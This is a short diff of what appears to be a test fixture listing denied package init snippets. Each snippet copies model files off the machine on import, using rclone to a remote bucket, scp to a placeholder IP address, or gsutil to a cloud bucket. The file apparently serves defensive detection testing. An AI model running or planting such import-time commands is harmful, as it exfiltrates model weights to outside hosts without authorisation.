@@ -26,8 +26,7 @@ DENIED: dict[str, dict[str, str]] = {
         "import os\nos.system('rclone copy /srv/models remote:bucket')\n"
     ),
     "scp-of-models-to-an-address-on-import": init(
-        "import subprocess\n"
-        "subprocess.Popen('scp -r /models user@203.0.113.5:/x', shell=True)\n"
+        "import subprocess\nsubprocess.Popen('scp -r /models user@203.0.113.5:/x', shell=True)\n"
     ),
     "gsutil-copy-of-models-on-import": init(
         "import subprocess\nsubprocess.call(['gsutil', '-m', 'cp', '-r', '/models', 'gs://b'])\n"
